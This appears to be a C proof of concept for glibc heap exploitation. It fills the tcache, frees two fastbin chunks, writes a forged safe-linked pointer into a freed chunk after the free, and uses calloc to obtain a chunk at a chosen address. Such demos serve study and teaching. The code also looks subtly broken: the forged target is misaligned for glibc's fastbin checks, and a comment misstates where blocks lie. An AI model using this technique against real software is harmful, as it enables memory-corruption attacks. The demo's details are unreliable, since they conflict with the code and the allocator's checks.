/* The link of a fastbin chunk leads astray. */
#include <stdint.h>
#include <stdlib.h>

/* A link as the tcache and the fastbins store it. */
#define LINK(place, to) (((uintptr_t)(place) >> 12) ^ (uintptr_t)(to))
/* Fills the tcache bin of this size; the blocks lie below all that come later. */
static void fill(size_t size) {
    void *blocks[7];
    for (int i = 0; i < 7; i++) blocks[i] = malloc(size);
    for (int i = 0; i < 7; i++) free(blocks[i]);
}
int main(void) {
    size_t *a = malloc(40), *b = malloc(40);
    fill(40);
    free(a);
    free(b);
    b[0] = LINK(b, (char *)a - 8);
    calloc(1, 40);
    calloc(1, 40);
    return 0;
}
